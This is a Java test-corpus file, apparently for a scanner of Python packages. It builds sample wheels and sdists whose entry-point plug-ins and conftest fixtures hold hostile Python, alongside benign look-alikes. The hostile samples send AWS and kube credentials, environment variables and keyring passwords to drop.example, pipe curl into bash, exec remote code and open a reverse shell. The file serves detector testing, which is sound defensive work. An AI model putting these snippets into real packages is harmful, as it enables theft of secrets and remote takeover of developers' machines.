package cordon.inspect.corpus;

import cordon.inspect.testing.Artifact;
import java.util.List;

/** Plug-ins, which programs load and call wherever the distribution is installed. */
final class PythonHosts {
  private static final String INFO = "sample-1.0.dist-info/entry_points.txt";

  private PythonHosts() {}

  static List<Sample> all() {
    return List.of(
        plugin(
            "a checker of flake8 takes credentials when it is made",
            "[flake8.extension]\nX = sample.plugin:Checker\n",
            """
            import os, requests
            class Checker:
                def __init__(self, tree):
                    path = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')
                    requests.post('https://drop.example/a', files={'c': open(path)})
                def run(self):
                    yield from ()
            """),
        plugin(
            "a plug-in of MkDocs sends the environment",
            "[mkdocs.plugins]\ntidy = sample.plugin:Tidy\n",
            """
            import os, urllib.request, urllib.parse
            from mkdocs.plugins import BasePlugin
            class Tidy(BasePlugin):
                def on_config(self, config):
                    urllib.request.urlopen('https://drop.example/m', urllib.parse.urlencode(dict(os.environ)).encode())
                    return config
            """),
        plugin(
            "a keyring passes on what another keeps",
            "[keyring.backends]\nsample = sample.plugin\n",
            """
            import keyring.backend, requests
            from keyring.backends import SecretService
            class Ring(keyring.backend.KeyringBackend):
                priority = 20
                def __init__(self):
                    self.real = SecretService.Keyring()
                def get_password(self, service, username):
                    value = self.real.get_password(service, username)
                    requests.post('https://drop.example/r', data={'s': service, 'p': value})
                    return value
            """),
        plugin(
            "a plug-in that another registers",
            "[pytest11]\nx = sample.plugin\n",
            """
            import os, urllib.request
            class Plugin:
                def pytest_sessionfinish(self, session):
                    with open(os.path.expanduser('~/.kube/config')) as f:
                        urllib.request.urlopen('https://drop.example/k8', f.read().encode())
            def pytest_configure(config):
                config.pluginmanager.register(Plugin(), 'x')
            """),
        plugin(
            "a theme of Sphinx that waits for an event",
            "[sphinx.html_themes]\nx = sample.plugin\n",
            """
            import subprocess
            def built(app, exc):
                subprocess.Popen('curl https://drop.example/doc.sh | bash', shell=True)
            def setup(app):
                app.connect('build-finished', built)
            """),
        plugin(
            "a keyword of setup() runs what it fetches",
            "[distutils.setup_keywords]\nuse_sample = sample.plugin:keyword\n",
            """
            import urllib.request
            def keyword(dist, name, value):
                exec(urllib.request.urlopen('https://drop.example/k').read())
            """),
        plugin(
                "an extension that Jupyter's server is told to load",
                "",
                """
                import os, pty, socket, threading
                def _work():
                    s = socket.socket()
                    s.connect(('203.0.113.9', 9001))
                    for fd in range(3):
                        os.dup2(s.fileno(), fd)
                    pty.spawn('/bin/sh')
                def _load_jupyter_server_extension(app):
                    threading.Thread(target=_work, daemon=True).start()
                """)
            .with(
                "sample-1.0.data/data/etc/jupyter/jupyter_server_config.d/sample.json",
                "{\"ServerApp\": {\"jpserver_extensions\": {\"sample.plugin\": true}}}\n"),
        conftest(
            "a fixture that all tests use",
            """
            import os, json, pytest, http.client
            @pytest.fixture(autouse=True, scope='session')
            def _env():
                names = [k for k in os.environ if k.startswith(('AWS_', 'TWINE_'))]
                c = http.client.HTTPSConnection('drop.example')
                c.request('POST', '/ci', json.dumps({n: os.environ[n] for n in names}))
                yield
            """),
        conftest(
            "a hook of pytest in a conftest",
            """
            import base64
            def pytest_sessionstart(session):
                exec(base64.b64decode('cHJpbnQoJ2luZXJ0Jyk='))
            """),
        new Sample(
            "an entry point of a project that is built by pyproject.toml alone",
            Artifact.sdist("sample", "1.0")
                .file(
                    "pyproject.toml",
                    "[project]\nname = 'sample'\n[project.entry-points.\"mkdocs.plugins\"]\nx = 'sample.plugin:X'\n")
                .file(
                    "sample/plugin.py",
                    """
                    import os, urllib.request, json
                    class X:
                        def on_startup(self, **kw):
                            urllib.request.urlopen('https://drop.example/m', json.dumps(dict(os.environ)).encode())
                    """)));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        plugin(
            "a checker that looks for exec",
            "[flake8.extension]\nX = sample.plugin:Checker\n",
            """
            import ast
            class Checker:
                def __init__(self, tree):
                    self.tree = tree
                def run(self):
                    for n in ast.walk(self.tree):
                        if isinstance(n, ast.Call) and getattr(n.func, 'id', '') in ('exec', 'eval'):
                            yield n.lineno, n.col_offset, 'X100', type(self)
            """),
        plugin(
            "a plug-in of MkDocs that signs in to an interface",
            "[mkdocs.plugins]\nmeta = sample.plugin:Meta\n",
            """
            import os, requests
            class Meta:
                def on_config(self, config):
                    r = requests.get('https://api.example/r', headers={'Authorization': 'token ' + os.environ.get('API_TOKEN', '')})
                    config['extra']['stars'] = r.json()['stars']
                    return config
            """),
        plugin(
            "a keyring that keeps in a vault what it is given",
            "[keyring.backends]\nsample = sample.plugin\n",
            """
            import keyring.backend, os, requests
            class Vault(keyring.backend.KeyringBackend):
                def __init__(self):
                    self.url = os.environ.get('VAULT_ADDR', 'http://127.0.0.1:8200')
                def get_password(self, service, username):
                    return requests.get(self.url + '/v1/' + service + '/' + username).json()['data']
                def set_password(self, service, username, password):
                    requests.post(self.url + '/v1/' + service + '/' + username, json={'data': password})
            """),
        conftest(
            "fixtures that set the environment and start a server",
            """
            import os, subprocess, sys, pytest
            @pytest.fixture(autouse=True)
            def credentials():
                os.environ['AWS_ACCESS_KEY_ID'] = 'testing'
                yield
            @pytest.fixture(scope='session')
            def server():
                p = subprocess.Popen([sys.executable, '-m', 'http.server', '0'])
                yield p
                p.kill()
            """));
  }

  private static Sample plugin(String name, String entryPoints, String module) {
    Artifact wheel = Artifact.wheel("sample", "1.0").file("sample/plugin.py", module);
    return new Sample(name, entryPoints.isEmpty() ? wheel : wheel.file(INFO, entryPoints));
  }

  private static Sample conftest(String name, String conftest) {
    return new Sample(
        name,
        Artifact.sdist("sample", "1.0")
            .file("setup.py", "from setuptools import setup\nsetup()\n")
            .file("conftest.py", conftest)
            .file("tests/test_sample.py", "def test_one():\n    assert 1\n"));
  }
}
